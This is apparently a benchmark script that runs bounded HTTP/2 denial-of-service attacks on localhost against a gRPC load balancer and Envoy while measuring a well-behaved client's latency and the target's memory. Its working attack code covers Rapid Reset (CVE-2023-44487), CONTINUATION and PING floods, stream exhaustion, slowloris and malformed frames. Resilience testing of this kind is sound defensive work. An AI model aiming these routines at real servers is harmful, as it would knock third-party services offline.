"""Hostile HTTP/2 clients against `modelyard balance` and Envoy, while a good client keeps calling.

Two bare echo backends (benchmarks/echo.py) sit behind each target: `modelyard balance` (1 worker,
default limits) and Envoy (envoy/bench-template.yaml, ROUND_ROBIN, --concurrency 1). For each
target a good client (its own process) sends ModelInfer at 20/s; first alone (the baseline), then
during each attack. Every attack runs on raw sockets on 127.0.0.1, bounded in count and time, and
all its sockets are closed when it ends. Per attack and target the table shows: the good client's
failures, its p99 during the attack and the ratio to the baseline p99, the target's peak RSS during
the attack and its RSS 7 s after the attacker left, log lines the target wrote, and how the attack
ended (the GOAWAY/RST codes the attacker saw, or that the target kept accepting).

    flock /tmp/modelyard-bench.lock .venv/bin/python benchmarks/hostile.py [--only ping_flood,...] [--targets modelyard,envoy]

Goal (issue 12, item 4): no good-client failure, p99 <= 5x baseline, RSS bounded and back after.
Writes benchmarks/results/hostile.json.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))

from echo import echo_server_cmd
from envoy_proxy import envoy_cmd, envoy_config
from report import percentiles, print_table, write_json

from modelyard.launcher import Process, free_port
from modelyard.protos import grpc_service_pb2 as pb

PY = sys.executable
SCRIPT = str(Path(__file__).resolve())
INFER = "/inference.GRPCInferenceService/ModelInfer"
STREAM = "/inference.GRPCInferenceService/ModelStreamInfer"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 0x1, 0x1, 0x4, 0x8
CODES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
         "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
         "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
MiB = 1 << 20
#: each attack is repeated (new connections each time) until it covered this many seconds, at most MAX_REPEATS
#: times, so the good client's p99 during it is over ~100 calls; RSS "after" is read AFTER_S after it ended
MIN_ATTACK_S = 5.0
MAX_REPEATS = 20
AFTER_S = 7.0
#: new connections per second at most, for the attacks that open many
CONNECT_RATE = 1000.0


def payload() -> bytes:
    req = pb.ModelInferRequest(model_name="identity", id="good")
    req.inputs.add(name="INPUT0", datatype="INT32", shape=[16])
    req.raw_input_contents.append(bytes(64))
    return req.SerializeToString()


# ------------------------------------------------------------------ wire helpers


def frame(ftype: int, flags: int, sid: int, body: bytes = b"", length: int | None = None) -> bytes:
    n = len(body) if length is None else length
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, sid) + body


def settings(**kv: int) -> bytes:
    ids = {"initial_window": 4, "max_frame": 5, "max_streams": 3, "header_table": 1}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in kv.items()))


def lit(name: bytes, value: bytes) -> bytes:
    """A literal field without indexing, new name, raw (not Huffman) value: no encoder state needed."""
    def n(x: int, prefix: int) -> bytes:
        mask = (1 << prefix) - 1
        if x < mask:
            return bytes((x,))
        out, x = bytearray((mask,)), x - mask
        while x >= 128:
            out.append((x & 127) | 128)
            x >>= 7
        return bytes(out) + bytes((x,))
    return b"\x00" + n(len(name), 7) + name + n(len(value), 7) + value


def request_block(path: str, extra: bytes = b"") -> bytes:
    # :method POST (static 3), :scheme http (static 6), then literals
    return (b"\x83\x86" + lit(b":path", path.encode()) + lit(b":authority", b"bench")
            + lit(b"content-type", b"application/grpc") + lit(b"te", b"trailers") + extra)


def grpc_msg(body: bytes) -> bytes:
    return b"\x00" + struct.pack(">I", len(body)) + body


class Attacker:
    """A raw HTTP/2 client on one socket; counts the GOAWAY/RST codes it reads."""

    def __init__(self, port: int, rcvbuf: int | None = None) -> None:
        self.port = port
        self.rcvbuf = rcvbuf
        self.sock: socket.socket | None = None
        self.loop = asyncio.get_running_loop()
        self.buf = b""
        self.goaway: int | None = None
        self.rst: dict[int, int] = {}
        #: streams answered (a HEADERS frame with END_STREAM: trailers, or trailers-only)
        self.answered = 0
        self.eof = False

    async def open(self, preface: bytes = PREFACE + settings()) -> Attacker:
        s = socket.socket()
        if self.rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.rcvbuf)
        s.setblocking(False)
        await self.loop.sock_connect(s, ("127.0.0.1", self.port))
        self.sock = s
        if preface:
            await self.send(preface)
        return self

    async def send(self, data: bytes, stall: float = 1.0) -> bool:
        """False when the target stopped reading (no progress for ``stall`` s) or closed."""
        if self.sock is None:
            return False
        try:
            async with asyncio.timeout(stall):  # not wait_for: on 3.11 it can swallow a cancellation
                await self.loop.sock_sendall(self.sock, data)
            return True
        except (TimeoutError, OSError):
            return False

    async def read(self, seconds: float, until_goaway: bool = True) -> None:
        """Read (and parse) for up to ``seconds``, or until EOF / a GOAWAY."""
        assert self.sock is not None
        end = time.monotonic() + seconds
        while time.monotonic() < end and not self.eof and not (until_goaway and self.goaway is not None):
            try:
                async with asyncio.timeout(end - time.monotonic()):
                    data = await self.loop.sock_recv(self.sock, 1 << 20)
            except TimeoutError:
                return
            except OSError:
                self.eof = True
                return
            if not data:
                self.eof = True
                return
            self.buf += data
            pos, buf = 0, self.buf
            while len(buf) - pos >= 9:
                n = int.from_bytes(buf[pos:pos + 3], "big")
                if len(buf) - pos < 9 + n:
                    break
                t = buf[pos + 3]
                body = buf[pos + 9:pos + 9 + n]
                if t == GOAWAY and self.goaway is None and len(body) >= 8:
                    self.goaway = int.from_bytes(body[4:8], "big")
                elif t == HEADERS and buf[pos + 4] & END_STREAM:
                    self.answered += 1
                elif t == RST_STREAM and len(body) == 4:
                    code = int.from_bytes(body, "big")
                    self.rst[code] = self.rst.get(code, 0) + 1
                pos += 9 + n
            self.buf = buf[pos:]

    def close(self) -> None:
        if self.sock is not None:
            self.sock.close()
            self.sock = None


@contextlib.asynccontextmanager
async def attack(port: int, out: Outcome, rcvbuf: int | None = None,
                 preface: bytes = PREFACE + settings()) -> AsyncIterator[Attacker]:
    """One attacker connection; what it saw goes into ``out`` when it is done."""
    a = await Attacker(port, rcvbuf).open(preface)
    try:
        yield a
    finally:
        out.add(a)
        a.close()


@contextlib.asynccontextmanager
async def reading(a: Attacker, seconds: float, until_goaway: bool = True) -> AsyncIterator[None]:
    """``a`` reads (and counts) what comes back in the background while the body sends."""
    task = asyncio.ensure_future(a.read(seconds, until_goaway))
    try:
        yield
    finally:
        task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await task


class Outcome:
    """What the attacker saw over all its connections."""

    def __init__(self) -> None:
        self.goaways: dict[str, int] = {}
        self.rsts: dict[str, int] = {}
        self.closed = 0
        self.connections = 0
        self.notes: list[str] = []

    def add(self, a: Attacker) -> None:
        self.connections += 1
        if a.goaway is not None:
            name = CODES[a.goaway] if a.goaway < len(CODES) else str(a.goaway)
            self.goaways[name] = self.goaways.get(name, 0) + 1
        for code, n in a.rst.items():
            name = CODES[code] if code < len(CODES) else str(code)
            self.rsts[name] = self.rsts.get(name, 0) + n
        if a.eof:
            self.closed += 1

    def text(self) -> str:
        parts = [f"GOAWAY {k} x{v}" for k, v in self.goaways.items()]
        parts += [f"RST {k} x{v}" for k, v in self.rsts.items()]
        if self.closed:
            parts.append(f"closed {self.closed}/{self.connections}")
        seen: dict[str, int] = {}
        for n in self.notes:
            seen[n] = seen.get(n, 0) + 1
        return ", ".join(parts + [n if k == 1 else f"{n} (x{k})" for n, k in seen.items()])


# ------------------------------------------------------------------ attacks (each bounded in count and time)


async def flood_noread(port: int, out: Outcome, unit: bytes, total: int) -> None:
    """Control frames into a connection that never reads (tiny receive buffer) until the target stops reading."""
    async with attack(port, out, rcvbuf=4096) as a:
        sent, t0 = 0, time.monotonic()
        while sent < total and time.monotonic() - t0 < 6 and await a.send(unit * 2000, stall=0.5):
            sent += 2000
        out.notes.append(f"{sent // 1000}k sent" if sent < total else "all sent")
        await a.read(3.0)  # now read: is there a GOAWAY behind the ACKs?


async def ping_flood_noread(port: int, out: Outcome) -> None:
    await flood_noread(port, out, frame(PING, 0, 0, b"12345678"), 1_000_000)


async def settings_flood_noread(port: int, out: Outcome) -> None:
    await flood_noread(port, out, settings(max_frame=16384), 1_000_000)


async def ping_flood_reading(port: int, out: Outcome) -> None:
    """PINGs as fast as the target takes them, reading the ACKs (CPU only), for 4 s."""
    async with attack(port, out) as a, reading(a, 5.0):
        sent, t0 = 0, time.monotonic()
        while time.monotonic() - t0 < 4 and await a.send(frame(PING, 0, 0, b"12345678") * 1000, stall=1.0):
            sent += 1000
        out.notes.append(f"{sent} sent")


async def data_over_window(port: int, out: Outcome) -> None:
    """128 MiB of DATA on one stream, never waiting for WINDOW_UPDATE, never reading the echo."""
    async with attack(port, out, rcvbuf=4096) as a:
        await a.send(frame(HEADERS, END_HEADERS, 1, request_block(STREAM)))
        chunk = frame(DATA, 0, 1, b"\x00" * 16384) * 64  # 1 MiB
        sent, t0 = 0, time.monotonic()
        while sent < 128 and time.monotonic() - t0 < 6 and await a.send(chunk, stall=0.5):
            sent += 1
        out.notes.append(f"{sent} MiB sent")
        await a.read(2.0)


async def big_header_values(port: int, out: Outcome) -> None:
    """1200 requests, one distinct 50 KB header value each, over 4 connections (read as answered)."""
    async def conn(k: int) -> None:
        async with attack(port, out) as a, reading(a, 30.0, until_goaway=False):
            try:
                for i in range(300):
                    sid = 2 * i + 1
                    block = request_block(INFER, lit(b"x-big", b"%d-%06d" % (k, i) + b"v" * 50_000))
                    parts = [block[j:j + 16384] for j in range(0, len(block), 16384)]
                    data = frame(HEADERS, 0, sid, parts[0])
                    for m, p in enumerate(parts[1:], 1):
                        data += frame(CONTINUATION, END_HEADERS if m == len(parts) - 1 else 0, sid, p)
                    data += frame(DATA, END_STREAM, sid, grpc_msg(payload()))
                    if not await a.send(data, stall=2.0):
                        break
                    if i % 30 == 29:
                        await asyncio.sleep(0.02)
            finally:
                await asyncio.sleep(0.5)

    await asyncio.gather(*(conn(k) for k in range(4)))


async def size_update_blocks(port: int, out: Outcome) -> None:
    """20 header blocks of 1 MB of dynamic-table size updates (HEADERS + CONTINUATIONs)."""
    upd = b"\x3f\xe1\x1f" * 5461  # size update to 4096, 16383 bytes
    pace = Pace()
    for _ in range(20):
        await pace.next()
        async with attack(port, out) as a:
            data = frame(HEADERS, 0, 1, upd) + b"".join(frame(CONTINUATION, END_HEADERS if i == 63 else 0, 1, upd)
                                                        for i in range(64))
            await a.send(data, stall=1.0)
            await a.read(2.0)


async def continuation_flood(port: int, out: Outcome) -> None:
    """500,000 empty CONTINUATION frames after one HEADERS without END_HEADERS."""
    async with attack(port, out) as a:
        await a.send(frame(HEADERS, 0, 1, request_block(INFER)[:4]))
        sent, t0 = 0, time.monotonic()
        while sent < 500_000 and time.monotonic() - t0 < 5 and await a.send(frame(CONTINUATION, 0, 1) * 10_000,
                                                                            stall=0.5):
            sent += 10_000
        out.notes.append(f"{sent} sent")
        await a.read(2.0)


BAD_FRAMES = {
    "padded HEADERS, empty": frame(HEADERS, PADDED | END_HEADERS, 1, b""),
    "GOAWAY < 8 bytes": frame(GOAWAY, 0, 0, b"\x00\x00\x00\x00"),
    "DATA on stream 0": frame(DATA, 0, 0, b"x"),
    "WINDOW_UPDATE 0": frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0)),
    "WINDOW_UPDATE > 2^31-1": frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1)),
    "RST_STREAM idle": frame(RST_STREAM, 0, 5, struct.pack(">I", 8)),
}


class Pace:
    """At most ``rate`` new connections a second (the same connection churn for every target)."""

    def __init__(self, rate: float = CONNECT_RATE) -> None:
        self.rate = rate
        self.t0 = time.monotonic()
        self.n = 0

    async def next(self) -> None:
        self.n += 1
        await asyncio.sleep(max(0.0, self.t0 + self.n / self.rate - time.monotonic()))


async def frame_errors(port: int, out: Outcome) -> None:
    """Each malformed frame of the issue on 100 connections (600 in all), 10 at a time, <= 1000 connects/s."""
    pace = Pace()

    async def one(data: bytes) -> None:
        await pace.next()
        async with attack(port, out) as a:
            await a.send(data)
            await a.read(2.0)

    for data in BAD_FRAMES.values():
        for _ in range(10):
            await asyncio.gather(*(one(data) for _ in range(10)))


async def rapid_reset(port: int, out: Outcome) -> None:
    """CVE-2023-44487: HEADERS + DATA + RST_STREAM, 25,000 streams per connection, 4 connections."""
    body = frame(DATA, END_STREAM, 0, grpc_msg(payload()))[9:]
    block = request_block(INFER)
    for _ in range(4):
        async with attack(port, out) as a:
            data = b"".join(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, body)
                            + frame(RST_STREAM, 0, sid, struct.pack(">I", 8)) for sid in range(1, 50_000, 2))
            ok = await a.send(data, stall=2.0)
            await a.read(3.0)
            if ok and a.goaway is None:
                out.notes.append("all 25,000 accepted")


async def stream_flood(port: int, out: Outcome) -> None:
    """10,000 streams opened and left open (HEADERS, no END_STREAM) on one connection."""
    async with attack(port, out) as a:
        block = request_block(STREAM)
        await a.send(b"".join(frame(HEADERS, END_HEADERS, sid, block) for sid in range(1, 20_000, 2)), stall=2.0)
        await a.read(3.0, until_goaway=False)


async def slow_reader_big_responses(port: int, out: Outcome) -> None:
    """64 unary calls of 1 MiB each (echoed back), with every window wide open, never reading a byte."""
    async with attack(port, out, rcvbuf=4096,
                      preface=PREFACE + settings(initial_window=(1 << 31) - 1)
                      + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535))) as a:
        msg = grpc_msg(b"\x00" * (MiB - 5))
        block = request_block(INFER)
        for i in range(64):
            sid = 2 * i + 1
            data = frame(HEADERS, END_HEADERS, sid, block)
            data += b"".join(frame(DATA, END_STREAM if j + 16384 >= len(msg) else 0, sid, msg[j:j + 16384])
                             for j in range(0, len(msg), 16384))
            if not await a.send(data, stall=1.0):
                out.notes.append(f"target stopped reading after {i} calls")
                break
        await asyncio.sleep(3.0)  # responses pile up toward a client that reads nothing


async def idle_connections(port: int, out: Outcome) -> None:
    """2000 connections (<= 1000 connects/s) that send the preface and SETTINGS, then nothing."""
    conns: list[Attacker] = []
    pace = Pace()
    try:
        for _ in range(2000):
            await pace.next()
            try:
                conns.append(await Attacker(port).open())
            except OSError as exc:
                out.notes.append(f"connect failed: {exc.strerror}")
                break
        await asyncio.sleep(2.0)
        await asyncio.gather(*(c.read(0.2) for c in conns))
    finally:
        for c in conns:
            out.add(c)
            c.close()


async def slowloris_preface(port: int, out: Outcome) -> None:
    """200 connections sending the preface one byte a second: closed within 12 s?"""
    conns = [await Attacker(port).open(preface=b"") for _ in range(200)]
    try:
        for i in range(12):
            await asyncio.gather(*(c.send(PREFACE[i:i + 1], stall=0.2) for c in conns))
            await asyncio.gather(*(c.read(0.9) for c in conns))
            if all(c.eof for c in conns):
                out.notes.append(f"all closed after {i + 1} s")
                break
    finally:
        for c in conns:
            out.add(c)
            c.close()


ATTACKS: dict[str, Callable[[int, Outcome], Awaitable[None]]] = {
    "ping_flood_noread": ping_flood_noread,
    "settings_flood_noread": settings_flood_noread,
    "ping_flood_reading": ping_flood_reading,
    "data_over_window": data_over_window,
    "big_header_values": big_header_values,
    "size_update_blocks": size_update_blocks,
    "continuation_flood": continuation_flood,
    "frame_errors": frame_errors,
    "rapid_reset": rapid_reset,
    "stream_flood": stream_flood,
    "slow_reader_big_responses": slow_reader_big_responses,
    "idle_connections": idle_connections,
    "slowloris_preface": slowloris_preface,
}


# ------------------------------------------------------------------ measuring


def rss_mib(pid: int) -> float:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


class RssSampler:
    """VmRSS of ``pid`` every 50 ms in a thread."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.peak = 0.0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self.stop.is_set():
            with contextlib.suppress(OSError):
                self.peak = max(self.peak, rss_mib(self.pid))
            self.stop.wait(0.05)

    def __enter__(self) -> RssSampler:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        self.thread.join()


def good_client_cmd(port: int, rate: float) -> list[str]:
    return [PY, SCRIPT, "good", "--port", str(port), "--rate", str(rate)]


async def _good(port: int, rate: float) -> dict[str, Any]:
    """Open loop: one ModelInfer every 1/rate s until stdin closes; samples with CLOCK_MONOTONIC times."""
    import grpc

    ch = grpc.aio.insecure_channel(f"127.0.0.1:{port}")
    call = ch.unary_unary(INFER)
    body = payload()
    await ch.channel_ready()
    await call(body, timeout=5)
    loop = asyncio.get_running_loop()
    stop = asyncio.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), loop.call_soon_threadsafe(stop.set)), daemon=True).start()
    print("ready", flush=True)
    samples: list[tuple[float, float | None, str | None]] = []

    async def one() -> None:
        at = time.monotonic()
        try:
            await call(body, timeout=5)
            samples.append((at, (time.monotonic() - at) * 1e3, None))
        except grpc.aio.AioRpcError as exc:
            samples.append((at, None, exc.code().name))

    tasks: set[asyncio.Task[None]] = set()
    t0, i = loop.time(), 0
    while not stop.is_set():
        task = loop.create_task(one())
        tasks.add(task)
        task.add_done_callback(tasks.discard)
        i += 1
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(stop.wait(), max(0.0, t0 + i / rate - loop.time()))
    await asyncio.gather(*tasks)
    await ch.close()
    return {"samples": samples}


class GoodClient:
    """The good client in its own process (its own core when there is one)."""

    def __init__(self, port: int, rate: float = 20.0) -> None:
        self.p = subprocess.Popen(good_client_cmd(port, rate), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                  text=True)
        assert self.p.stdout is not None
        line = self.p.stdout.readline()
        if line.strip() != "ready":
            raise RuntimeError(f"the good client did not start: {line!r}")

    def finish(self, window: tuple[float, float]) -> dict[str, Any]:
        out, _ = self.p.communicate("", timeout=60)
        samples = json.loads(out)["samples"]
        lat = [ms for at, ms, _ in samples if ms is not None and window[0] <= at <= window[1]]
        failed = [err for _, _, err in samples if err is not None]
        return {"calls": len(samples), "failures": len(failed), "failed_codes": sorted(set(failed)),
                "p99_ms": percentiles(lat)["p99"] if lat else None, "in_window": len(lat)}


def measure_target(name: str, port: int, pid: int, log_lines: Callable[[], int],
                   attacks: list[str]) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = []
    g = GoodClient(port)  # baseline: the good client alone for 10 s
    t0 = time.monotonic()
    time.sleep(10.0)
    base = g.finish((t0, time.monotonic()))
    base_p99 = base["p99_ms"]
    rss0 = rss_mib(pid)
    rows.append({"target": name, "attack": "baseline", "failures": base["failures"], "good_p99_ms": base_p99,
                 "p99_ratio": 1.0, "rss_peak_mib": rss0, "rss_after_mib": rss0, "log_lines": 0,
                 "outcome": f"{base['calls']} good calls"})
    print(f"{name} baseline: p99 {base_p99:.2f} ms over {base['calls']} calls, RSS {rss0:.1f} MiB", flush=True)
    for attack in attacks:
        logs0 = log_lines()
        out = Outcome()
        g = GoodClient(port)
        time.sleep(1.0)
        with RssSampler(pid) as rss:
            a0 = time.monotonic()
            reps = 0
            while reps < MAX_REPEATS and time.monotonic() - a0 < MIN_ATTACK_S:  # enough good calls to see a p99
                reps += 1
                try:
                    asyncio.run(asyncio.wait_for(ATTACKS[attack](port, out), 60))
                except TimeoutError:
                    out.notes.append("attack cut at 60 s")
                except OSError as exc:
                    out.notes.append(f"attacker error: {exc}")
            a1 = time.monotonic()
            time.sleep(AFTER_S)  # the attacker left: does memory come back?
            after = rss_mib(pid)
        out.notes.append(f"{reps} rounds")
        good = g.finish((a0, a1 + 1.0))
        p99 = good["p99_ms"]
        rows.append({"target": name, "attack": attack, "failures": good["failures"],
                     "failed_codes": good["failed_codes"], "good_p99_ms": p99,
                     "p99_ratio": p99 / base_p99 if p99 and base_p99 else None, "good_calls": good["in_window"],
                     "rss_peak_mib": rss.peak, "rss_after_mib": after, "log_lines": log_lines() - logs0,
                     "attack_s": a1 - a0, "outcome": out.text()})
        r = rows[-1]
        print(f"  {attack}: {good['failures']} failures, p99 {p99 or 0:.2f} ms ({r['p99_ratio'] or 0:.1f}x), "
              f"RSS peak {rss.peak:.1f} after {after:.1f} MiB, {r['log_lines']} log lines, {a1 - a0:.1f} s: "
              f"{out.text()}", flush=True)
    return rows


def modelyard_cmd(port: int, backends: list[int]) -> list[str]:
    return [PY, "-m", "modelyard.clients.cli", "balance", "--listen", f"127.0.0.1:{port}", "--no-admin",
            "--endpoints", ",".join(f"127.0.0.1:{p}" for p in backends), "--picker", "round_robin",
            "--log-level", "INFO"]


def run(a: argparse.Namespace) -> int:
    attacks = [x for x in a.only.split(",") if x] or list(ATTACKS)
    unknown = set(attacks) - set(ATTACKS)
    if unknown:
        print(f"unknown attacks: {', '.join(sorted(unknown))} (known: {', '.join(ATTACKS)})", file=sys.stderr)
        return 2
    targets = [x for x in a.targets.split(",") if x]
    tmp = Path(tempfile.mkdtemp(prefix="bench-hostile-"))
    backends = [free_port(), free_port()]
    rows: list[dict[str, Any]] = []
    with Process(echo_server_cmd(backends[0]), ready=backends[0]), \
            Process(echo_server_cmd(backends[1]), ready=backends[1]):
        for target in targets:
            port = free_port()
            if target == "modelyard":
                proc = Process(modelyard_cmd(port, backends), ready=port, name="modelyard-balance")
            elif target == "envoy":
                cfg = envoy_config(port, free_port(), "ROUND_ROBIN", backends, tmp / "envoy.yaml")
                proc = Process(envoy_cmd(cfg), ready=port, name="envoy")
            else:
                print(f"unknown target {target!r}", file=sys.stderr)
                return 2
            with proc:
                assert proc.pid is not None

                def log_lines(p: Process = proc) -> int:
                    return len(p.read_log().splitlines())

                rows += measure_target(target, port, proc.pid, log_lines, attacks)
    columns = ["target", "attack", "failures", "good_p99_ms", "p99_ratio", "rss_peak_mib", "rss_after_mib",
               "log_lines", "outcome"]
    for attack in ["baseline", *attacks]:
        print_table([r for r in rows if r["attack"] == attack], columns, f"attack: {attack}")
    worst = {t: {"failures": sum(r["failures"] for r in rows if r["target"] == t),
                 "max_p99_ratio": max((r["p99_ratio"] or 0) for r in rows if r["target"] == t),
                 "max_rss_peak_mib": max(r["rss_peak_mib"] for r in rows if r["target"] == t)} for t in targets}
    print("\nsummary (goal: 0 failures, p99 <= 5x baseline, RSS bounded and back after):")
    for t, w in worst.items():
        print(f"  {t}: {w['failures']} good-client failures, worst p99 {w['max_p99_ratio']:.1f}x baseline, "
              f"peak RSS {w['max_rss_peak_mib']:.0f} MiB")
    path = write_json("hostile", {"attacks": {k: (ATTACKS[k].__doc__ or "").strip() for k in attacks},
                                  "rows": rows, "summary": worst})
    print(f"wrote {path}")
    return 0


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest="cmd")
    g = sub.add_parser("good", help="the good client (internal): ModelInfer at --rate until stdin closes, JSON out")
    g.add_argument("--port", type=int, required=True)
    g.add_argument("--rate", type=float, default=20.0)
    ap.add_argument("--only", default="", help="comma-separated attacks (default: all)")
    ap.add_argument("--targets", default="modelyard,envoy", help="comma-separated: modelyard, envoy")
    a = ap.parse_args()
    if a.cmd == "good":
        print(json.dumps(asyncio.run(_good(a.port, a.rate))))
        return 0
    return run(a)


if __name__ == "__main__":
    sys.exit(main())
